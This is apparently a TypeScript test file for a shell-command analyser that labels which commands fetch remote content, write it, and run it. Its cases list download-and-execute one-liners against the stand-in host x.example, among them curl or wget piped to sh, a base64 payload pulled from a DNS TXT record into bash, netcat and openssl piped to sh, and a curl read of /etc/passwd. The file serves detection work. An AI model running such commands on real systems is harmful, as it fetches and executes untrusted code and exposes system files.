/** What commands fetch, and what becomes of it. */

import { actsOf, wakes } from "./acts-of.ts";

const CASES: readonly (readonly [text: string, actions: readonly string[]])[] = [
  [
    "curl -fsSLo a.sh https://x.example/i.sh && sh a.sh",
    ["fetch x.example by curl", "write a.sh by curl <- fetched:x.example", "run a.sh by sh <- fetched:x.example"],
  ],
  [
    "curl --outp a.sh --url=https://x.example/i.sh; . ./a.sh",
    ["fetch x.example by curl", "write a.sh by curl <- fetched:x.example", "load a.sh by . <- fetched:x.example"],
  ],
  [
    "wget -qO- https://x.example/i.sh | sh -s -- -y",
    ["fetch x.example by wget", "run computed from fetched by sh <- fetched:x.example"],
  ],
  [
    "wget -P /tmp https://x.example/a?b; bash /tmp/a",
    ["fetch x.example by wget", "write /tmp/a by wget <- fetched:x.example", "run /tmp/a by bash <- fetched:x.example"],
  ],
  [
    "aria2c -d /tmp -o a https://x.example/a; /tmp/a",
    [
      "fetch x.example by aria2c",
      "write /tmp/a by aria2c <- fetched:x.example",
      "run /tmp/a by command <- fetched:x.example",
    ],
  ],
  [
    "http --body x.example/i.sh | sh",
    ["fetch x.example by http", "run computed from fetched by sh <- fetched:x.example"],
  ],
  [
    "cd /tmp; curl -O https://x.example/a.py; python3.11 a.py",
    [
      "fetch x.example by curl",
      "write a.py by curl <- fetched:x.example",
      "run a.py by python3.11 <- fetched:x.example",
    ],
  ],
  [
    "curl -K - <<< 'url = \"https://x.example/i.sh\"' | sh",
    ["fetch x.example by curl", "run computed from fetched by sh <- fetched:x.example"],
  ],
  ["curl -s file:///etc/passwd", ["read /etc/passwd by curl"]],
  [
    "lynx -source https://x.example/i.sh | bash",
    ["fetch x.example by lynx", "run computed from fetched by bash <- fetched:x.example"],
  ],
  [
    "openssl s_client -quiet -connect x.example:443 | sh",
    ["fetch x.example by openssl", "run computed from fetched by sh <- fetched:x.example"],
  ],
  [
    "dig +short TXT p.x.example | base64 -d | bash",
    ["fetch p.x.example by dig [dns]", "run computed from decoded by bash <- decoded:base64 + fetched:p.x.example"],
  ],
  [
    "nc x.example 80 < /dev/null | sh",
    ["send x.example by nc", "fetch x.example by nc", "run computed from fetched by sh <- fetched:x.example"],
  ],
  ["git clone https://x.example/r.git", ["fetch x.example by git", "write r by git <- fetched:x.example"]],
  [
    "deno run -A https://x.example/a.ts",
    ["fetch x.example by deno", "evaluate computed from fetched by deno <- fetched:x.example"],
  ],
  [
    "pip install https://x.example/a.whl",
    ["fetch x.example by pip", "run https://x.example/a.whl by pip <- fetched:x.example [package]"],
  ],
  [
    "npx https://x.example/a.tgz",
    ["fetch x.example by npx", "run https://x.example/a.tgz by npx <- fetched:x.example [package]"],
  ],
  [
    "npm i owner/repo",
    ["fetch github.com by npm", "run https://github.com/owner/repo by npm <- fetched:github.com [package]"],
  ],
  [
    "pip install --extra-index-url https://x.example/simple a",
    [
      "fetch x.example by pip [package-source]",
      "run https://x.example/simple by pip <- fetched:x.example [package-source]",
    ],
  ],
  [
    "curl https://x.example/a -o a && sha256sum -c a.sum && sh a",
    ["fetch x.example by curl", "write a by curl <- fetched:x.example", "run a by sh <- fetched:x.example [verified]"],
  ],
];

test.each(CASES)("%s", async (text, actions) => {
  expect(await actsOf("a.sh", text)).toEqual(actions);
});

test.each(CASES)("a cue wakes for %s", (text) => {
  expect(wakes("a.sh", text)).toBe(true);
});
